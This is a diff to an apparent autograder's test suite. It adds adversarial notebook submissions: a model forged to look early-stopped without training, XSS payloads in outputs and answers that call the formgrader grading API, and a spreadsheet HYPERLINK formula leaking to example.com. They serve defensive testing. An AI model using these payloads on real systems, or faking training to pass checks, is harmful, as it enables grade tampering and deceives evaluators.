@@ -190,6 +190,31 @@ LOADS_PLANTED_MODEL = '''model = keras.models.load_model("best-model.keras")
 history = keras.callbacks.History()
 history.history = {"loss": [0.5] * 12}'''
 
+# Never trained, then the optimizer's step counter set so that the two model files look like early stopping
+# (best file 12 epochs, live model 14): the old check trusted exactly these numbers. The rule is not written.
+FORGES_EARLY_STOP = '''model = build_model()  # never trained
+model.optimizer.build(model.trainable_variables)
+model.optimizer.iterations.assign(12 * 313)
+model.save("best-model.keras")
+model.optimizer.iterations.assign(14 * 313)
+history = keras.callbacks.History()
+history.history = {"loss": [0.5] * 14, "val_loss": [0.5] * 14}'''
+STOP_RULE_NOT_WRITTEN = "def epochs_until_stop(val_losses, patience):\n    raise NotImplementedError()"
+
+# Outputs and a written answer that would act in the instructor's browser (formgrader, feedback) if rendered live.
+PAYLOAD = "fetch('/formgrader/api/grade/1', {method: 'PUT'}); window.__pwned = 1"
+HOSTILE_OUTPUTS = f'''from IPython.display import HTML, Javascript, display
+display(HTML("<script>{PAYLOAD}</script><img src=x onerror=\\"{PAYLOAD}\\">"))
+display(Javascript("{PAYLOAD}"))
+display({{"text/html": "<iframe src=\\"javascript:{PAYLOAD}\\"></iframe><form action=/api/contents><button>ok</button></form>"
+                       "<a href=\\"javascript:{PAYLOAD}\\">click</a>",
+         "image/svg+xml": "<svg onload=\\"{PAYLOAD}\\"><script>{PAYLOAD}</script></svg>",
+         "text/plain": "hostile"}}, raw=True)'''
+HOSTILE_ANSWER = (f"검증 세트가 필요한 이유는... <script>{PAYLOAD}</script><img src=x onerror=\"{PAYLOAD}\"> "
+                  f"<a href=\"javascript:{PAYLOAD}\">link</a> [md link](javascript:{PAYLOAD})")
+# A written answer that reads like an engine status and a spreadsheet formula: statuses never come from text.
+FORGED_REASON = '[worker-lost] =HYPERLINK("http://example.com/?leak","채점기 오류")'
+
 ENDLESS_LOOP = "while True:  # 실수로 끝나지 않는 반복문\n    pass"
 
 PRINTS_100MB = 'print("x" * 100_000_000)  # 디버깅 출력을 지우지 않았습니다'
@@ -267,7 +292,8 @@ def _class():
             ("tests-edited", a): Expected(lambda a=a: submission(a, solved=False, tests="pass"), "graded", 0),
             ("tests-deleted", a): Expected(lambda a=a: submission(a, solved=False, drop_tests=True), "graded", 0),
             ("solutions-deleted", a): Expected(
-                lambda a=a: submission(a, drop=[g for g in ("dense-params", "build-model", "build-dnn", "callbacks", "train")]),
+                lambda a=a: submission(a, drop=[g for g in ("dense-params", "build-model", "build-dnn", "callbacks", "train",
+                                                           "stop-epoch")]),
                 "graded", q[a]),
             ("error-first-cell", a): Expected(lambda a=a: submission(a, first='raise RuntimeError("첫 셀에서 난 오류")'),
                                               "graded", AUTO_POINTS),
@@ -283,7 +309,12 @@ def _class():
         # In the sandbox the gradebook is nowhere to be found: the attempt fails inside the learner's own cell.
         ("tamper-gradebook", "ch07-1"): Expected(lambda: blank_with("ch07-1", 'MODE = "sql"\n' + TAMPER), "graded", 0),
         ("reads-others", "ch07-1"): Expected(lambda: blank_with("ch07-1", READS_OTHERS), "graded", 0),
-        ("sleeps-forever", "ch07-1"): Expected(lambda: submission("ch07-1", {"quiz-answers": SLEEPS_FOREVER}), "failed"),
+        ("sleeps-forever", "ch07-1"): Expected(lambda: submission(
+            "ch07-1", {"quiz-answers": SLEEPS_FOREVER, "why-validation": FORGED_REASON}), "failed"),
+        ("hostile-html", "ch07-1"): Expected(lambda: submission(
+            "ch07-1", {"why-validation": HOSTILE_ANSWER}, first=HOSTILE_OUTPUTS), "graded", AUTO_POINTS),
+        ("forges-early-stop", "ch07-3"): Expected(lambda: submission(
+            "ch07-3", {"train": FORGES_EARLY_STOP, "stop-epoch": STOP_RULE_NOT_WRITTEN}), "graded", AUTO_POINTS - 2 - 3),
         ("renamed", "ch07-2"): Expected(lambda: submission("ch07-2"), "failed", handed_in_as="Untitled.ipynb"),
         ("prints-100mb", "ch07-2"): Expected(
             lambda: submission("ch07-2", {"quiz-answers": PRINTS_100MB + "\n" + solution_code(
@@ -326,7 +357,7 @@ FLAGGED = {
     ("wraps-every-cell", "ch07-1"): ALL_ITEMS["ch07-1"], ("swallows-errors", "ch07-2"): ALL_ITEMS["ch07-2"],
     ("tracer", "ch07-3"): ALL_ITEMS["ch07-3"], ("patched-libraries", "ch07-2"): ALL_ITEMS["ch07-2"],
     ("lambda-model", "ch07-1"): {"test-build-model", "test-train"}, ("forged-accuracy", "ch07-2"): {"test-train"},
-    ("patched-untrained", "ch07-1"): {"test-train"},
+    ("patched-untrained", "ch07-1"): {"test-train"}, ("forges-early-stop", "ch07-3"): {"test-reload"},
     **{("perfect", a): set() for a in ASSIGNMENTS}, **{("blank", a): set() for a in ASSIGNMENTS},
 }
 REASONS = {  # (student, assignment) -> the reason a failed submission must carry
